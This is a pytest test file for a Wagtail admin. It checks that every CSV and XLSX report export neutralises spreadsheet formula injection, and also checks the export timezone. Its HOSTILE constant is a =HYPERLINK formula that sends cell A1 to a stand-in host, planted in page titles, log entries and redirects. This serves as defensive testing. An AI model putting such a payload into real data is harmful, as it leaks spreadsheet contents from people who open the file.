"""Wagtail's own exports are written by our writer, every one of them."""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.urls import NoReverseMatch, URLPattern, get_resolver, reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.log_actions import log
from wagtail.models import Page, PageLogEntry

from publishing.records.screens import InsteadOfAList

HOSTILE = '=HYPERLINK("http://contoh.invalid/?"&A1;"klik")'


def exports(patterns=None, namespaces=()) -> list[str]:
    """The addresses of all screens that offer a table, from the list of addresses itself."""
    found = []
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        if not isinstance(pattern, URLPattern):
            inner = (*namespaces, pattern.namespace) if pattern.namespace else namespaces
            found += exports(pattern.url_patterns, inner)
        elif pattern.name and _is_export(pattern.callback):
            try:
                found.append(reverse(":".join([*namespaces, pattern.name])))
            except NoReverseMatch:  # the history of one record: it needs a number, and inherits the same
                continue
    return sorted(set(found))


def _is_export(callback) -> bool:
    while hasattr(callback, "__wrapped__") and not hasattr(callback, "view_class"):
        callback = callback.__wrapped__
    view = getattr(callback, "view_class", object)
    return issubclass(view, SpreadsheetExportMixin) and not issubclass(view, InsteadOfAList)


def text_of(response) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text_of(response).removeprefix("\ufeff"), newline=""), delimiter=";"))


@pytest.fixture
def hostile(admin_user) -> None:
    """Words of strangers wherever a report could repeat them."""
    page = Page.objects.get(url_path__endswith="/kekerasan/fisik/")
    Page.objects.filter(pk=page.pk).update(title=HOSTILE, draft_title=HOSTILE, locked=True, locked_by=admin_user)
    page.refresh_from_db()
    log(page, "wagtail.edit", user=admin_user, title=HOSTILE)
    Redirect.objects.create(old_path=f"/{HOSTILE}", redirect_link=HOSTILE)


def test_the_walk_finds_the_known_exports(db):
    known = {"site-history", "aging-pages", "page-types-usage", "locked", "workflow", "redirects"}
    assert all(any(name in address for address in exports()) for name in known), exports()


def test_no_export_of_the_admin_holds_a_formula(admin_client, hostile):
    seen = ""
    for address in exports():
        text = text_of(admin_client.get(address, {"export": "csv"}))
        assert text.startswith("\ufeff"), address
        for delimiter in ";,\t":
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
                assert not any(cell.lstrip(' "').startswith(("=", "+", "-", "@")) for cell in row), (address, row)
        seen += text
    assert "'=HYPERLINK" in seen


def test_every_export_of_the_admin_opens_as_a_workbook_without_formulas(admin_client, hostile):
    for address in exports():
        response = admin_client.get(address, {"export": "xlsx"})
        sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
        assert all(cell.data_type != "f" for row in sheet for cell in row), address


def test_the_time_of_an_export_is_that_of_payakumbuh(admin_client, admin_user):
    entry = PageLogEntry.objects.log_action(Page.objects.first(), "wagtail.edit", user=admin_user)
    PageLogEntry.objects.exclude(pk=entry.pk).delete()
    PageLogEntry.objects.update(timestamp=datetime(2026, 12, 4, 20, tzinfo=UTC))
    address = reverse("wagtailadmin_reports:site_history")
    assert any("2026-12-05 03:00" in row for row in rows_of(admin_client.get(address, {"export": "csv"})))
    response = admin_client.get(address, {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    # The download before this one is an action too, above or below by the day of the test.
    assert datetime(2026, 12, 5, 3) in {cell.value for row in sheet.iter_rows() for cell in row}


def test_what_a_report_makes_of_its_own_fields_stays(admin_client, admin_user):
    log(Page.objects.last(), "wagtail.edit", user=admin_user)
    rows = rows_of(admin_client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"}))
    assert "wagtail.edit" not in {cell for row in rows for cell in row}, "the action is told in words"
